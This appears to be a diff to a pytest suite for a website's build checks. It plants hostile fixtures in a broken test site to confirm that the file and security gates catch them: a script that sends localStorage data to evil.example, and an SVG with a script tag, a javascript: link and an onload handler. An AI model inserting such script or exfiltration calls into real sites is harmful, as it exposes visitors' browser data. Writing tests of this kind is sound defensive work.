@@ -5,7 +5,7 @@ import shutil
 
 import pytest
 
-from embassy.gates import BuiltSite, browser, feeds, html, links, security
+from embassy.gates import BuiltSite, browser, feeds, files, html, links, security
 from helpers import ROOT, run_gate
 
 SCREENSHOTS = ROOT / "artifacts" / "screenshots"
@@ -77,12 +77,48 @@ def broken_site(dev_site, tmp_path_factory):
     feed = root / "en" / "feeds" / "all.atom.xml"
     feed.write_text(feed.read_text(encoding="utf-8").replace(' rel="self"', "", 1),
                     encoding="utf-8")
+    planted = root / "media" / "news" / "eighty-years-of-relations"  # what Pelican once copied
+    planted.mkdir(parents=True)
+    (planted / "plant.svg").write_text(PLANTED_SVG, encoding="utf-8")
+    (planted / "plant.js").write_text("fetch('//evil.example/?' + localStorage.length)")
+    (root / "en" / "old.htm").write_text("<p onclick=x()>x", encoding="utf-8")
     return BuiltSite(root, "")
+
+
+PLANTED_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
+               '<script>alert(localStorage.length)</script><a xlink:href="javascript:alert(1)">'
+               '<rect width="9" height="9" onload="alert(2)"/></a></svg>')
+
+
+def test_only_files_the_site_publishes_are_in_every_build(site):
+    count, problems = files.check(site)
+    assert count > len(site.html_files())
+    assert not problems, "\n".join(problems)
+
+
+def test_files_gate_names_every_file_the_site_does_not_publish(broken_site):
+    _count, problems = files.check(broken_site)
+    assert problems == [
+        "en/old.htm: not a kind of file the site publishes there",
+        "media/news/eighty-years-of-relations/plant.js: not a kind of file the site publishes "
+        "there",
+        "media/news/eighty-years-of-relations/plant.svg: not a kind of file the site publishes "
+        "there"]
+
+
+def test_security_gate_reads_every_document_a_browser_would_open(broken_site):
+    _count, problems = security.check(broken_site)
+    svg = "media/news/eighty-years-of-relations/plant.svg"
+    assert {f"{svg}: a <script> element", f"{svg}: a javascript: address in href= on <a>",
+            f"{svg}: an event handler (onload) on <rect>",
+            "en/old.htm: an event handler (onclick) on <p>"} <= set(problems)
 
 
 def test_no_page_has_inline_code_or_third_party_resources(site):
     count, problems = security.check(site)
-    assert count == len(site.html_files()) + len(site.editor_files())
+    assert count == len(site.html_files()) + len(site.editor_files()) + len(site.xml_documents())
+    assert {site.relative(path).split("/")[0] for path in site.xml_documents()} >= {
+        "theme", "en", "sitemap.xml"}  # the icon, the feeds, the sitemap
     assert not problems, "\n".join(problems)
 
 
@@ -111,6 +147,7 @@ def test_security_gate_fails_on_a_broken_page(broken_site):
 def test_nu_checker_fails_on_a_broken_page(broken_site):
     _count, errors = run_gate(html.check, broken_site)
     assert any(error.startswith("en/index.html") for error in errors)
+    assert any(error.startswith("en/old.htm") for error in errors)  # HTML by any name
 
 
 def test_link_gate_fails_on_a_broken_page(broken_site):
